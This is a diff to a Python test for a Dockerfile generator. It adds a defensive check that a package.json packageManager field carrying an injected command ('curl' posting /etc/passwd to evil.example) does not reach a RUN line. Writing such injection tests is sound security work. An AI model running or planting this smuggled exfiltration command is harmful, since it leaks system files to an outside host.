@@ -268,6 +268,11 @@ def test_pnpm_on_node_16_comes_from_npm_not_corepack() -> None:
     declared = {**files, "package.json": files["package.json"].replace(
         '{"name"', '{"packageManager": "pnpm@8.6.12+sha256.abc", "name"')}
     assert "RUN npm install -g pnpm@8.6.12\n" in dockerfile(declared)
+    # packageManager is repository text on a RUN line: anything but a version is not used
+    hostile = {**files, "package.json": files["package.json"].replace(
+        '{"name"', '{"packageManager": "pnpm@8; curl -sd@/etc/passwd evil.example", "name"')}
+    text = dockerfile(hostile)
+    assert "evil.example" not in text and "curl" not in text
     newer = dockerfile({**files, ".nvmrc": "v20.11.0\n"})
     assert "RUN corepack enable && corepack prepare pnpm@8 --activate" in newer
     assert "npm install -g" not in newer
